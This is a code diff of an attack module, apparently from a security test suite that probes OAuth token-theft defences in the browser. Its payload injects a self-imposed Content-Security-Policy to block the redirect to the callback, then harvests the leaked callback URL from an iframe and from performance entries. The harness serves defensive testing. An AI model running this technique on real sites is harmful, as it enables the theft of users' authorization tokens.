@@ -1,12 +1,11 @@
 import { attack } from "../attack.js";
-import { withoutWorker } from "../without-worker.js";
 
 export default attack({
   name: "a policy of the attacker's own that reports the callback's URL",
   threat: "acquisition of new tokens",
-  target: "strongroom",
-  hook: withoutWorker,
-  // The redirect from the authorization server to the callback breaks it, and the report says what was blocked.
+  target: "any",
+  alone: true,
+  // A page may always add a policy. The redirect to the callback breaks it, before worker and host know of it.
   async payload(it) {
     const { ReportingObserver } = window as unknown as {
       ReportingObserver?: new (callback: (reports: { toJSON(): unknown }[]) => void) => { observe(): void };
@@ -19,14 +18,11 @@ export default attack({
     const { origin } = new URL(it.authorizationEndpoint);
     const meta = document.createElement("meta");
     meta.httpEquiv = "Content-Security-Policy";
-    meta.content = `frame-src ${origin}; img-src ${origin}; connect-src ${origin} ${it.attackerUrl}`;
+    meta.content = `frame-src ${origin}; img-src ${origin}`;
     document.head.append(meta);
     const frame = document.createElement("iframe");
     frame.src = it.authorizationUrl();
     document.body.append(frame, Object.assign(new Image(), { src: it.authorizationUrl() }));
-    await fetch(it.authorizationUrl(), { mode: "no-cors", credentials: "include" }).catch((error) =>
-      it.steal(String(error)),
-    );
     await it.pause(1_500);
     try {
       it.steal(frame.contentWindow?.location.href);
@@ -34,10 +30,5 @@ export default attack({
       // Of another origin.
     }
     it.steal(performance.getEntries());
-  },
-  async play(stage) {
-    await stage.unregisterWorkers();
-    await stage.openUnconnected();
-    await stage.inject();
   },
 });
